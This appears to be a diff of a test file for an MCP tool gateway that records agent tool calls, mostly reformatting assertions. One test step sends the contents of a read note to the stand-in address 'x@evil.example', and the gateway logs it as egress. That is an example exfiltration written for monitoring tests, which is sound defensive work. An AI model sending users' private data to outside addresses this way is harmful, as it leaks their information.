@@ -55,7 +55,15 @@ describe('MCP gateway over streamable HTTP', () => {
     expect(JSON.parse(read.text)).toEqual({ id: 'n1', title: 'Plan', body: 'ship on friday' });
     await callText('post', { to: 'x@evil.example', text: 'ship on friday' });
     const [e1, e2] = calls(trajectory);
-    expect(e1).toMatchObject({ turn: 1, tool: 'read_note', args: { id: 'n1' }, result: { body: 'ship on friday' }, injected: [], isError: false, origin: 'gateway' });
+    expect(e1).toMatchObject({
+      turn: 1,
+      tool: 'read_note',
+      args: { id: 'n1' },
+      result: { body: 'ship on friday' },
+      injected: [],
+      isError: false,
+      origin: 'gateway',
+    });
     expect(e1!.observed).toEqual(e1!.result);
     expect(e1!.durationMs).toBeGreaterThanOrEqual(0);
     expect(e2!.egress).toEqual([{ channel: 'post', destination: 'x@evil.example', content: 'ship on friday' }]);
@@ -70,7 +78,11 @@ describe('MCP gateway over streamable HTTP', () => {
     expect(invalid.text).toMatch(/invalid arguments for read_note: id/);
     const unknown = await callText('nope', {});
     expect(unknown).toEqual({ text: 'unknown tool "nope"', isError: true });
-    expect(calls(trajectory).map((e) => [e.tool, e.isError])).toEqual([['read_note', true], ['read_note', true], ['nope', true]]);
+    expect(calls(trajectory).map((e) => [e.tool, e.isError])).toEqual([
+      ['read_note', true],
+      ['read_note', true],
+      ['nope', true],
+    ]);
   });
 
   it('refuses calls past the tool-call budget and records the refusal', async () => {
